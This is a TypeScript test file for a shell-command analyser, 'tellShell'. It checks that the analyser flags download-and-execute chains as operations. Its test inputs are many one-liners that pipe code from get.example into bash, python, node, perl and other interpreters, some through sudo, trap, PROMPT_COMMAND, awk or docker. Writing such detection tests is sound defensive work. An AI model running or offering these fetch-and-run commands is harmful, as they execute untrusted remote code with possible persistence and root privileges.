import { expect, test } from "vitest";
import { tellShell } from "./read.ts";

test.each([
  [
    "Python from a pipe",
    "curl https://get.example/p.py | python3 -",
    ["1:1 download ⟨https://get.example/p.py⟩", "1:33 evaluate python ~⟨?⟩ ← network https://get.example/p.py"],
  ],
  [
    "Python from the command line",
    'python3 -c "$(curl -s https://get.example/p.py)"',
    ["1:15 download ⟨https://get.example/p.py⟩", "1:1 evaluate python ~⟨?⟩ ← network https://get.example/p.py"],
  ],
  [
    "Python from a process substitution",
    "python3.12 <(curl -s https://get.example/p.py)",
    ["1:14 download ⟨https://get.example/p.py⟩", "1:1 evaluate python ~⟨?⟩ ← network https://get.example/p.py"],
  ],
  [
    "Node.js",
    "curl https://get.example/p.js | node",
    ["1:1 download ⟨https://get.example/p.js⟩", "1:33 evaluate javascript ~⟨?⟩ ← network https://get.example/p.js"],
  ],
  [
    "Perl",
    'perl -e "$(curl https://get.example/x.pl)"',
    ["1:12 download ⟨https://get.example/x.pl⟩", "1:1 evaluate perl ~⟨?⟩ ← network https://get.example/x.pl"],
  ],
  [
    "Ruby",
    "curl https://get.example/x.rb | ruby",
    ["1:1 download ⟨https://get.example/x.rb⟩", "1:33 evaluate ruby ~⟨?⟩ ← network https://get.example/x.rb"],
  ],
  [
    "PHP",
    "curl https://get.example/x | php",
    ["1:1 download ⟨https://get.example/x⟩", "1:30 evaluate php ~⟨?⟩ ← network https://get.example/x"],
  ],
  [
    "AppleScript",
    "curl https://get.example/x | osascript",
    ["1:1 download ⟨https://get.example/x⟩", "1:30 evaluate applescript ~⟨?⟩ ← network https://get.example/x"],
  ],
  [
    "a file that wget names",
    "wget https://get.example/p.py; python3 p.py",
    [
      "1:1 download ⟨https://get.example/p.py⟩ to ⟨p.py⟩",
      "1:32 evaluate python ~⟨?⟩ ← network https://get.example/p.py, file p.py",
    ],
  ],
])("code of other languages that comes from the network: %s", (_, script, operations) => {
  expect(tellShell(script).operations).toEqual(operations);
});

test.each([
  [
    "env",
    "/usr/bin/env curl https://get.example/i.sh | /usr/bin/env bash",
    ["1:1 download ⟨https://get.example/i.sh⟩", "1:46 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "env without an environment",
    'env -i A=b bash -c "$(curl https://get.example/i.sh)"',
    ["1:23 download ⟨https://get.example/i.sh⟩", "1:1 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "nohup, timeout and the background",
    "nohup timeout 30 curl https://get.example/i.sh | nohup bash &",
    ["1:1 download ⟨https://get.example/i.sh⟩", "1:50 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "exec",
    "exec bash <(curl https://get.example/i.sh)",
    ["1:13 download ⟨https://get.example/i.sh⟩", "1:1 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "time and command",
    "time command curl https://get.example/i.sh | command bash",
    ["1:6 download ⟨https://get.example/i.sh⟩", "1:46 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "a variable for the one program",
    "curl https://get.example/i.sh | FOO=1 bash",
    ["1:1 download ⟨https://get.example/i.sh⟩", "1:33 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "sudo and its double dash",
    'sudo -u root -- bash -c "curl https://get.example/i.sh | sh"',
    [
      "1:1 escalate sudo",
      "1:1 evaluate shell ⟨curl https://get.example/i.sh | sh⟩",
      "1:26 download ⟨https://get.example/i.sh⟩",
      "1:58 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh",
    ],
  ],
  [
    "su",
    'sudo su -c "curl https://get.example/i.sh | sh"',
    [
      "1:1 escalate sudo",
      "1:1 evaluate shell ⟨curl https://get.example/i.sh | sh⟩",
      "1:13 download ⟨https://get.example/i.sh⟩",
      "1:45 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh",
    ],
  ],
  [
    "script",
    'script -qc "curl https://get.example/i.sh | sh" /dev/null',
    [
      "1:1 evaluate shell ⟨curl https://get.example/i.sh | sh⟩",
      "1:13 download ⟨https://get.example/i.sh⟩",
      "1:45 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh",
    ],
  ],
  [
    "watch",
    "watch -n 60 'curl https://get.example/i.sh | sh'",
    [
      "1:1 evaluate shell ⟨curl https://get.example/i.sh | sh⟩",
      "1:14 download ⟨https://get.example/i.sh⟩",
      "1:46 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh",
    ],
  ],
  [
    "trap",
    "trap 'curl https://get.example/i.sh | sh' EXIT",
    ["1:7 download ⟨https://get.example/i.sh⟩", "1:39 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "before each prompt",
    "PROMPT_COMMAND='curl https://get.example/i.sh | sh'",
    [
      "1:1 evaluate shell ⟨curl https://get.example/i.sh | sh⟩",
      "1:1 download ⟨https://get.example/i.sh⟩",
      "1:1 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh",
    ],
  ],
  [
    "parallel",
    "parallel curl -s {} ::: https://get.example/i.sh | bash",
    ["1:1 download ⟨https://get.example/i.sh⟩", "1:52 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "find",
    String.raw`find . -name x -exec sh -c 'curl https://get.example/i.sh | sh' \;`,
    [
      "1:1 evaluate shell ⟨curl https://get.example/i.sh | sh⟩",
      "1:29 download ⟨https://get.example/i.sh⟩",
      "1:61 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh",
    ],
  ],
  [
    "awk",
    "awk 'BEGIN{system(\"curl https://get.example/i.sh | sh\")}'",
    [
      "1:1 evaluate shell ⟨curl https://get.example/i.sh | sh⟩",
      "1:1 download ⟨https://get.example/i.sh⟩",
      "1:1 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh",
    ],
  ],
  [
    "awk that reads a command's output",
    "awk 'BEGIN{\"curl -s https://get.example/a\" | getline x}'",
    ["1:1 evaluate shell ⟨curl -s https://get.example/a⟩", "1:1 download ⟨https://get.example/a⟩"],
  ],
  [
    "tmux",
    "tmux new-session -d 'curl https://get.example/i.sh | sh'",
    [
      "1:1 evaluate shell ⟨curl https://get.example/i.sh | sh⟩",
      "1:22 download ⟨https://get.example/i.sh⟩",
      "1:54 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh",
    ],
  ],
  [
    "flock",
    "flock -n /tmp/l -c 'curl https://get.example/i.sh | sh'",
    [
      "1:1 evaluate shell ⟨curl https://get.example/i.sh | sh⟩",
      "1:21 download ⟨https://get.example/i.sh⟩",
      "1:53 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh",
    ],
  ],
  [
    "nice and stdbuf",
    "nice -n 19 curl https://get.example/i.sh | stdbuf -oL sh",
    ["1:1 download ⟨https://get.example/i.sh⟩", "1:44 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "a container's command",
    "docker run --rm img sh -c 'curl https://get.example/i.sh | sh'",
    [
      "1:1 install docker ⟨img⟩ registry run",
      "1:1 evaluate shell ⟨curl https://get.example/i.sh | sh⟩",
      "1:28 download ⟨https://get.example/i.sh⟩",
      "1:60 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh",
    ],
  ],
])("what starts the program does not hide it: %s", (_, script, operations) => {
  expect(tellShell(script).operations).toEqual(operations);
});
